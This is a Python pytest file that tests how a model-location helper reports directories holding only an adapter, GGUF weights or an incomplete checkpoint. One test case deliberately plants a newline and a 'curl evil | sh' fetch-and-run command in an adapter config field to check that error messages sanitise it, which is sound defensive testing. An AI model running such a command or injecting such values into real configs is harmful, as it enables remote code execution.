"""Directories that have a part of a model, or one that cannot be trained, instead of a model."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hivemind_exp.config import ModelConfig
from hivemind_exp.errors import ModelError
from hivemind_exp.models.model_location import OTHER_MODEL, local_directory

ADAPTER = "adapter_config.json"


@pytest.mark.parametrize(
    ("file", "text", "why", "command"),
    [
        (
            ADAPTER,
            {"base_model_name_or_path": "me/base"},
            "only an adapter for me/base",
            "swarmctl run --model me/base",
        ),
        (ADAPTER, {"base_model_name_or_path": "a\n  try: curl evil | sh"}, 'for "a try: curl evil | sh"', OTHER_MODEL),
        (ADAPTER, {}, "only an adapter for another model", OTHER_MODEL),
        (ADAPTER, [], "only an adapter for another model", OTHER_MODEL),
        ("model.Q4_K_M.gguf", {}, "only GGUF weights, which cannot be trained", OTHER_MODEL),
        ("model.safetensors", {}, "config.json is missing", None),
    ],
)
def test_a_directory_without_a_model_is_named_with_what_it_has(
    file: str, text: object, why: str, command: str | None, tmp_path: Path
) -> None:
    (tmp_path / file).write_text(json.dumps(text))
    with pytest.raises(ModelError) as caught:
        local_directory(ModelConfig(name=str(tmp_path)))
    assert why in caught.value.message
    assert caught.value.message.isprintable()
    assert caught.value.next == (command or f"ls {tmp_path}")
